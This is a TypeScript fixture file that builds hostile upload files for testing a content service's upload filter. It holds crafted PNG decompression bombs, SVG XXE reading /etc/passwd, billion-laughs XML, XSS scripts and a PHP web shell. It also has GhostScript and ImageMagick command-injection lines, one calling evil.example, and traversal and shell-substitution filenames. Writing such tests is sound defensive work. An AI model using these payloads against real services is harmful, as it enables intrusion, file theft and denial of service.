import { deflateSync, gzipSync } from 'node:zlib'

interface HostileFile {
  readonly name: string
  readonly filename: string
  readonly type: string
  readonly bytes: Buffer
}

const SCRIPT = '<script>alert(1)</script>'
const text = (value: string) => Buffer.from(value, 'latin1')

/** The check sum that each piece of a PNG ends with (ISO 3309). */
function checkSum(bytes: Buffer): number {
  let sum = 0xffffffff
  for (const byte of bytes) {
    sum ^= byte
    for (let bit = 0; bit < 8; bit += 1) {
      sum = sum & 1 ? (sum >>> 1) ^ 0xedb88320 : sum >>> 1
    }
  }
  return (sum ^ 0xffffffff) >>> 0
}

function piece(kind: string, data: Buffer): Buffer {
  const body = Buffer.concat([text(kind), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(checkSum(body))
  return Buffer.concat([length, body, sum])
}

/** A PNG of one bit a point, which says of itself that it is so large; its rows are as many as it is given. */
function png(width: number, height: number, rows = height, ...more: Buffer[]): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([1, 0, 0, 0, 0], 8)
  const data = deflateSync(Buffer.alloc(rows * (Math.ceil(width / 8) + 1)), { level: 9 })
  return Buffer.concat([
    text('\x89PNG\r\n\x1a\n'),
    piece('IHDR', head),
    ...more,
    piece('IDAT', data),
    piece('IEND', Buffer.alloc(0)),
  ])
}

export const plainPicture = png(8, 8)
const MEGABYTE = 1024 ** 2
const bomb = (bytes: number) => deflateSync(Buffer.alloc(bytes), { level: 9 })
const svg = (inside: string) => text(`<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`)

/** Files that the content service must not take, whatever they say that they are. */
export const refusedFiles: readonly HostileFile[] = [
  {
    name: 'a picture of 30,000 by 30,000',
    filename: 'a.png',
    type: 'image/png',
    bytes: png(30_000, 30_000, 1_000),
  },
  {
    name: 'a picture of 65,535 by 65,535',
    filename: 'a.png',
    type: 'image/png',
    bytes: png(65_535, 65_535, 1),
  },
  {
    name: 'a picture as high as can be said',
    filename: 'a.png',
    type: 'image/png',
    bytes: png(1, 2_147_483_647, 1),
  },
  { name: 'a picture without an end', filename: 'a.png', type: 'image/png', bytes: png(1_000, 1_000, 3) },
  { name: 'a picture of no size', filename: 'a.png', type: 'image/png', bytes: png(0, 0, 1) },
  { name: 'a drawing', filename: 'a.svg', type: 'image/svg+xml', bytes: svg(SCRIPT) },
  { name: 'a drawing as PNG', filename: 'a.png', type: 'image/png', bytes: svg(SCRIPT) },
  {
    name: 'a drawing that includes a file',
    filename: 'a.png',
    type: 'image/png',
    bytes: text(
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    ),
  },
  {
    name: 'a drawing that is packed',
    filename: 'a.svgz',
    type: 'image/svg+xml',
    bytes: gzipSync(svg(SCRIPT)),
  },
  {
    name: 'a drawing of a billion laughs',
    filename: 'a.png',
    type: 'image/png',
    bytes: text(
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>',
    ),
  },
  { name: 'a page', filename: 'a.html', type: 'text/html', bytes: text(SCRIPT) },
  { name: 'a page as PNG', filename: 'a.png', type: 'image/png', bytes: text(SCRIPT) },
  { name: 'a page as PDF', filename: 'a.pdf', type: 'application/pdf', bytes: text(`${SCRIPT}%PDF-1.7`) },
  { name: 'a page as WebVTT', filename: 'a.vtt', type: 'text/vtt', bytes: text(`${SCRIPT}WEBVTT`) },
  { name: 'a script', filename: 'a.js', type: 'text/javascript', bytes: text('alert(1)') },
  { name: 'a script as a film', filename: 'a.mp4', type: 'video/mp4', bytes: text('alert(1)//ftyp') },
  { name: 'a program', filename: 'a.png', type: 'image/png', bytes: text('\x7fELF\x02\x01\x01') },
  {
    name: 'a program of Windows',
    filename: 'a.exe',
    type: 'application/x-msdownload',
    bytes: text('MZ\x90'),
  },
  {
    name: 'a program of a server',
    filename: 'a.php',
    type: 'image/png',
    bytes: text('<?php system($_GET[0]);'),
  },
  { name: 'an archive', filename: 'a.zip', type: 'application/zip', bytes: text('PK\x03\x04') },
  {
    name: 'a packed gigabyte',
    filename: 'a.png',
    type: 'image/png',
    bytes: gzipSync(Buffer.alloc(64 * MEGABYTE)),
  },
  {
    name: 'a GIF with script',
    filename: 'a.gif',
    type: 'image/gif',
    bytes: text('GIF89a/*\x00*/=alert(1)//'),
  },
  { name: 'a GIF as PNG', filename: 'a.png', type: 'image/png', bytes: text('GIF89a/*\x00*/=alert(1)//') },
  { name: 'a TIFF', filename: 'a.tiff', type: 'image/tiff', bytes: text('II*\x00') },
  {
    name: 'a picture of another program',
    filename: 'a.psd',
    type: 'image/vnd.adobe.photoshop',
    bytes: text('8BPS'),
  },
  {
    name: 'a script of PostScript',
    filename: 'a.jpg',
    type: 'image/jpeg',
    bytes: text('%!PS\n(%pipe%id) (w) file'),
  },
  {
    name: 'a script of ImageMagick',
    filename: 'a.mvg',
    type: 'image/png',
    bytes: text('push graphic-context\nfill \'url(https://evil.example/"|id")\''),
  },
  { name: 'nothing', filename: 'a.png', type: 'image/png', bytes: Buffer.alloc(0) },
  { name: 'a type with a line end', filename: 'a.png', type: 'text/html;\timage/png', bytes: plainPicture },
]

/** A real picture under names, and with insides, that would do harm: refused, or kept as nothing but a picture. */
export const harmlessAtMost: readonly HostileFile[] = [
  ...[
    '../../../etc/cron.d/evil.png',
    '..\\..\\evil.png',
    '/etc/passwd.png',
    'evil.png\0.html',
    'evil.html%00.png',
    'evil.png.html',
    'evil.html',
    'evil.svg',
    'evil.php.png',
    '.htaccess',
    '.png',
    'CON.png',
    'evil;.png',
    'evil\r\nX-Attacked: yes.png',
    'evil"; filename="evil.html',
    '<img src=x onerror=alert(1)>.png',
    'evil\u202egnp.html',
    `${'a'.repeat(3_000)}.png`,
    'ev%2e%2e%2fil.png',
    '$(id).png',
    '`id`.png',
    '__proto__.png',
  ].map((filename) => ({
    name: JSON.stringify(filename).slice(0, 60),
    filename,
    type: 'image/png',
    bytes: plainPicture,
  })),
  {
    name: 'a picture with a page behind it',
    filename: 'a.png',
    type: 'image/png',
    bytes: Buffer.concat([plainPicture, text(SCRIPT)]),
  },
  {
    name: 'a picture with an archive behind it',
    filename: 'a.png',
    type: 'image/png',
    bytes: Buffer.concat([plainPicture, text('PK\x05\x06'), Buffer.alloc(18)]),
  },
  {
    name: 'a picture with a page in its remarks',
    filename: 'a.png',
    type: 'image/png',
    bytes: png(8, 8, 8, piece('tEXt', text(`Comment\0${SCRIPT}`))),
  },
  {
    name: 'a picture with a bomb in its remarks',
    filename: 'a.png',
    type: 'image/png',
    bytes: png(8, 8, 8, piece('zTXt', Buffer.concat([text('Comment\0\0'), bomb(64 * MEGABYTE)]))),
  },
  {
    name: 'a picture with a bomb as its colours',
    filename: 'a.png',
    type: 'image/png',
    bytes: png(8, 8, 8, piece('iCCP', Buffer.concat([text('icc\0\0'), bomb(64 * MEGABYTE)]))),
  },
  {
    name: 'a report with a script',
    filename: 'a.pdf',
    type: 'application/pdf',
    bytes: text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
  },
  {
    name: 'a report with a page behind it',
    filename: 'a.pdf',
    type: 'application/pdf',
    bytes: text(`%PDF-1.7\n${SCRIPT}`),
  },
  {
    name: 'captions with a page',
    filename: 'a.vtt',
    type: 'text/vtt',
    bytes: text(`WEBVTT\n\n00:00.000 --> 00:01.000\n<b onclick=alert(1)>${SCRIPT}</b>`),
  },
]
